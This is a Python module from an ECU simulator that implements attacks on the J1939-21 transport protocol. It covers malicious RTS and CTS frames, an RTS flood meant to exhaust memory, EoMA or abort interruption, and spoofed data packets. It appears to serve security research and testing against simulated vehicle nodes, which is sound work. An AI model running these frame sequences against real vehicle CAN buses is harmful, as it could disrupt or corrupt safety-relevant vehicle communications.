"""The transport-protocol attacks that take part in a session (J1939-21's RTS/CTS).

A session needs two parties, and ecu-sim's powertrain nodes share one process and never open one
with each other, so the attacker is the other party and breaks the rules from inside the session:

- against the target as sender (``cts``, ``interrupt``), the attacker is the requester: a Request
  for a multi-packet PGN in the peer's name makes the target send an RTS to the peer, and the
  attacker answers it with a crafted CTS, or with an honest CTS followed by an EoMA or an abort
  once the packets it granted have come;
- against the target as receiver (``rts``, ``dt``), the attacker is the sender: an RTS in the
  source's name, and when the target's CTS comes, a second RTS or spoofed data packets besides
  the message's own;
- ``rtsflood`` needs no session: RTS of the largest size from many addresses at once.

Each answers at the tick it heard the frame it waits for, so its frame reaches the target before
the next step of the exchange; the session is started again every ``every`` seconds (0: once).
With ``peer``/``source`` set to a real node's address the attacker speaks in its name, but still
starts and answers the session itself.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from dataclasses import dataclass

import can

from ecu_sim.attack.family import (
    ADDRESS,
    ATTACKS,
    BYTE,
    NOT_NEGATIVE,
    PGN,
    SOURCE_DIAG,
    TRANSPORT_SIZE,
    Context,
    whole,
)
from ecu_sim.attack.tick import Frames, every, frame
from ecu_sim.j1939 import layouts
from ecu_sim.j1939.frames import TP_CM_PGN, TP_DT_PGN, Pdu, Received, received
from ecu_sim.j1939.request import request
from ecu_sim.j1939.transport import ABORT_TIMEOUT, CTS, EOMA, RTS, abort, cm, dt, packet_count, packets
from ecu_sim.registry.family import ParamError, choice, param

#: a frame the target sent the attacker's party -> the attack's frames in answer
Answer = Callable[[Received], list[can.Message]]


def _apart(target: int, party: int, name: str) -> None:
    """ParamError when the attacker's party would be the target itself."""
    if target == party:
        raise ParamError(f"the {name} must be another address than the target")


def _watch(target: int, me: int, every_s: float, period_s: float, start: Pdu, answer: Answer) -> Frames:
    """``start`` in the name of ``me`` at the window's start and every ``every_s`` seconds, and
    ``answer`` to each transport frame the target sends ``me``."""
    due = every(every_s, period_s)

    def frames(n: int, heard: Sequence[can.Message]) -> list[can.Message]:
        out = [frame(start, me)] if due(n) else []
        for msg in heard:
            got = received(msg.arbitration_id, msg.data)
            if (got.source == target and got.destination == me and got.pgn in (TP_CM_PGN, TP_DT_PGN)
                    and len(got.data) == 8):
                out.extend(answer(got))
        return out
    return frames


def _control(got: Received, control: int, pgn: int) -> dict[str, int] | None:
    """The values of a TP.CM of ``control`` for ``pgn``; None for any other frame."""
    if got.pgn != TP_CM_PGN or got.data[0] != control:
        return None
    try:
        values = layouts.decode(layouts.TP_CM, got.data)
    except ValueError:  # a control byte the layout does not know: no frame the attack waits for
        return None
    return values if values["RTS_PGN" if control == RTS else "CTS_PGN"] == pgn else None


def _announce(pgn: int, target: int, size: int) -> Pdu:
    return cm({"ControlByte": RTS, "RTS_TotalSize": size, "RTS_TotalPackets": packet_count(size),
               "RTS_PGN": pgn}, target)


def _granted(values: dict[str, int], chunks: list[bytes]) -> list[int]:
    first = max(1, values["CTS_NextSequence"])
    return list(range(first, min(len(chunks), first + values["CTS_Packets"] - 1) + 1))


@dataclass(frozen=True)
class Rts:
    target: int = param(ADDRESS, "0x00")
    source: int = param(ADDRESS, SOURCE_DIAG)
    pgn: int = param(PGN, "0xef00")
    size: int = param(TRANSPORT_SIZE, "20")
    false: int = param(TRANSPORT_SIZE, "9")
    every: float = param(NOT_NEGATIVE, "0")

    def __post_init__(self) -> None:
        _apart(self.target, self.source, "source")


@ATTACKS.register("rts", Rts, "malicious RTS: an RTS to the target, and when its CTS comes a second RTS of "
                  "another size from the same sender mid-session, then the first message's packets")
def malicious_rts(p: Rts, at: Context) -> Frames:
    """MUK's false RTS: mid-session, a second RTS of ``false`` bytes from the sender, then the
    packets of the message first announced (``size`` bytes, all 0xFF: not available)."""
    target, source, pgn = p.target, p.source, p.pgn
    chunks = packets(b"\xff" * p.size)
    false = frame(_announce(pgn, target, p.false), source)

    def answer(got: Received) -> list[can.Message]:
        values = _control(got, CTS, pgn)
        if values is None:
            return []
        own = [frame(dt(n, chunks[n - 1], target), source) for n in _granted(values, chunks)]
        return [_copy(false), *own]
    return _watch(target, source, p.every, at.period_s, _announce(pgn, target, p.size), answer)


@dataclass(frozen=True)
class RtsFlood:
    target: int = param(ADDRESS, "0x00")
    source: int = param(ADDRESS, "0x80")
    count: int = param(whole(1, 0xFD), "40")
    pgn: int = param(PGN, "0xef00")
    size: int = param(TRANSPORT_SIZE, "1785")
    every: float = param(NOT_NEGATIVE, "0")

    def __post_init__(self) -> None:
        if self.source + self.count - 1 > 0xFD:
            raise ParamError("source+count passes 0xfd, the last address")


@ATTACKS.register("rtsflood", RtsFlood, "out of memory by RTS: RTS of SIZE bytes from COUNT addresses from "
                  "SOURCE on, at once")
def rts_flood(p: RtsFlood, at: Context) -> Frames:
    """LEE 12: RTS of ``size`` bytes from ``count`` addresses from ``source`` on, at once."""
    pdu = _announce(p.pgn, p.target, p.size)
    due = every(p.every, at.period_s)
    return lambda n, heard: [frame(pdu, p.source + i) for i in range(p.count)] if due(n) else []


@dataclass(frozen=True)
class Cts:
    target: int = param(ADDRESS, "0x00")
    peer: int = param(ADDRESS, SOURCE_DIAG)
    pgn: int = param(PGN, "0xfee3")
    packets: int = param(BYTE, "255")
    next: int = param(BYTE, "6")
    every: float = param(NOT_NEGATIVE, "0")

    def __post_init__(self) -> None:
        _apart(self.target, self.peer, "peer")


@ATTACKS.register("cts", Cts, "malicious CTS: a Request to the target, its RTS answered with a CTS for "
                  "packets past the message's end")
def malicious_cts(p: Cts, at: Context) -> Frames:
    """CSU's memory-leak capture: the target's RTS answered by a CTS for ``packets`` from ``next``."""
    grant = cm({"ControlByte": CTS, "CTS_Packets": p.packets, "CTS_NextSequence": p.next,
                "CTS_PGN": p.pgn}, p.target)
    return _watch(p.target, p.peer, p.every, at.period_s, request(p.pgn, p.target),
                  lambda got: [frame(grant, p.peer)] if _control(got, RTS, p.pgn) else [])


@dataclass(frozen=True)
class Interrupt:
    target: int = param(ADDRESS, "0x00")
    peer: int = param(ADDRESS, SOURCE_DIAG)
    pgn: int = param(PGN, "0xfee3")
    by: str = param(choice("eoma", "abort"), "eoma")
    packets: int = param(whole(1, 255), "2")
    every: float = param(NOT_NEGATIVE, "0")

    def __post_init__(self) -> None:
        _apart(self.target, self.peer, "peer")


@ATTACKS.register("interrupt", Interrupt, "EoMA or abort interruption: a Request to the target, its RTS "
                  "answered by a CTS for PACKETS, then an EoMA (by=eoma) or abort (by=abort) mid-transfer")
def interrupt(p: Interrupt, at: Context) -> Frames:
    """LEE 9 and 10: the target's RTS answered by a CTS for ``packets`` from 1; when the last of
    them comes, an EoMA of the announced size (``by=eoma``) or an abort (``by=abort``, the
    timeout's reason, as a receiver that gave up would send) in the peer's name, mid-transfer."""
    target, peer, pgn, count = p.target, p.peer, p.pgn, p.packets
    announced: dict[str, int] = {}

    def answer(got: Received) -> list[can.Message]:
        values = _control(got, RTS, pgn)
        if values is not None:
            announced.update(values)
            return [frame(cm({"ControlByte": CTS, "CTS_Packets": count, "CTS_NextSequence": 1,
                              "CTS_PGN": pgn}, target), peer)]
        if got.pgn != TP_DT_PGN or got.data[0] != min(count, announced.get("RTS_TotalPackets", 0)):
            return []
        if p.by == "abort":
            return [frame(abort(pgn, ABORT_TIMEOUT, target), peer)]
        return [frame(cm({"ControlByte": EOMA, "EOMA_TotalSize": announced["RTS_TotalSize"],
                          "EOMA_TotalPackets": announced["RTS_TotalPackets"], "EOMA_PGN": pgn},
                         target), peer)]
    return _watch(target, peer, p.every, at.period_s, request(pgn, target), answer)


@dataclass(frozen=True)
class Dt:
    target: int = param(ADDRESS, "0x00")
    source: int = param(ADDRESS, SOURCE_DIAG)
    pgn: int = param(PGN, "0xef00")
    size: int = param(TRANSPORT_SIZE, "20")
    mode: str = param(choice("spoof", "overwrite"), "spoof")
    fill: int = param(BYTE, "0")
    every: float = param(NOT_NEGATIVE, "0")

    def __post_init__(self) -> None:
        _apart(self.target, self.source, "source")


@ATTACKS.register("dt", Dt, "TP.DT spoof or overwrite: an RTS to the target, and when its CTS comes the "
                  "message's packets with a packet 1 of FILL bytes ahead of its own (spoof) or after it "
                  "(overwrite)")
def spoofed_data(p: Dt, at: Context) -> Frames:
    """LEE 13 and 14: the message of ``size`` bytes sent in answer to the target's CTS with one
    packet of ``fill`` bytes besides its own: packet 1 again after the genuine packet 1
    (``mode=overwrite``) or a packet 1 ahead of it (``mode=spoof``)."""
    target, source, pgn = p.target, p.source, p.pgn
    chunks = packets(b"\xff" * p.size)
    bad = frame(dt(1, bytes([p.fill]) * 7, target), source)

    def answer(got: Received) -> list[can.Message]:
        values = _control(got, CTS, pgn)
        if values is None:
            return []
        own = [frame(dt(n, chunks[n - 1], target), source) for n in _granted(values, chunks)]
        at = 0 if p.mode == "spoof" else 1
        return [*own[:at], _copy(bad), *own[at:]]
    return _watch(target, source, p.every, at.period_s, _announce(pgn, target, p.size), answer)


def _copy(msg: can.Message) -> can.Message:
    return can.Message(arbitration_id=msg.arbitration_id, data=msg.data, is_extended_id=True)
